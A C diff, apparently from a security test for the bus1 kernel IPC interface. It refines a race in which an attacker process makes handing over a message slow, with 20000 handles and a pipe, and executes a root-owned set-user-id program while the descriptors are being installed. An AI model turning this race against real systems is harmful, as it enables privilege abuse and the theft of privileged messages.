@@ -16,18 +16,20 @@ static void receive_for_ever(int fd)
 	}
 }
 
-/* The descriptors of one message, and where set-user-id.c has zeros, in a program of the same addresses. */
-#define MANY_FILES 250
+/* What a message carries, so that handing it over takes its time; and where set-user-id.c has zeros. */
+#define MANY_HANDLES 20000
 #define ZEROS ((void *)0x10000000)
 #define ZEROS_SIZE (1 << 20)
 
 static volatile int lowest;
 
-/* Executes a program of root's when the first descriptor has been installed. */
+/* Executes a program of root's when the descriptor of the message, a pipe, is there. */
 static void *execute(void *program)
 {
+	struct stat stat;
 	while (lowest == 0) continue;
-	while (fcntl(lowest + 3, F_GETFD) < 0) continue;
+	while (fstat(lowest, &stat) != 0 || !S_ISFIFO(stat.st_mode)) continue;
+	usleep((getpid() & 3) * 2000);
 	execl(program, program, NULL);
 	return NULL;
 }
@@ -35,23 +37,26 @@ static void *execute(void *program)
 /* A program with the rights of another user takes the place of a receiver, and nothing of what the receiver is told goes to it. */
 static void another_program_in_its_place(void)
 {
+	static __u64 handles[MANY_HANDLES];
 	const char *program = getenv("SET_USER_ID");
+	for (int i = 0; i < MANY_HANDLES; i++) handles[i] = 16;
 	for (int i = 0; i < 12; i++) {
 		pid_t child = fork();
 		if (child == 0) {
-			int files[MANY_FILES];
+			int ends[2];
 			become(ATTACKER);
 			peer = peer_open();
-			files[0] = open("/dev/null", O_RDONLY | O_CLOEXEC);
-			for (int j = 1; j < MANY_FILES; j++) files[j] = files[0];
-			EXPECT(send_files(peer, 0x4142434445464748, files, MANY_FILES), 0);
+			CHECK(pipe2(ends, O_CLOEXEC) == 0);
+			__u64 node = 0x4142434445464748;
+			struct bus1_cmd_send send = { .ptr_destinations = (uintptr_t)&node, .n_destinations = 1, .ptr_handles = (uintptr_t)handles, .n_handles = MANY_HANDLES, .ptr_fds = (uintptr_t)ends, .n_fds = 1 };
+			EXPECT(command(peer, BUS1_CMD_SEND, &send), 0);
 			char *zeros = mmap(ZEROS, ZEROS_SIZE, PROT_READ | PROT_WRITE,
 					   MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
 			CHECK(zeros == ZEROS);
 			struct bus1_cmd_recv *recv = (void *)(zeros + 0x8000);
 			*recv = (struct bus1_cmd_recv){ .flags = BUS1_RECV_FLAG_INSTALL_FDS, .max_offset = -1 };
 			start(execute, (void *)program);
-			lowest = files[0] + 1;
+			lowest = ends[1] + 1;
 			ioctl(peer, BUS1_CMD_RECV, recv);
 			pause();
 		}
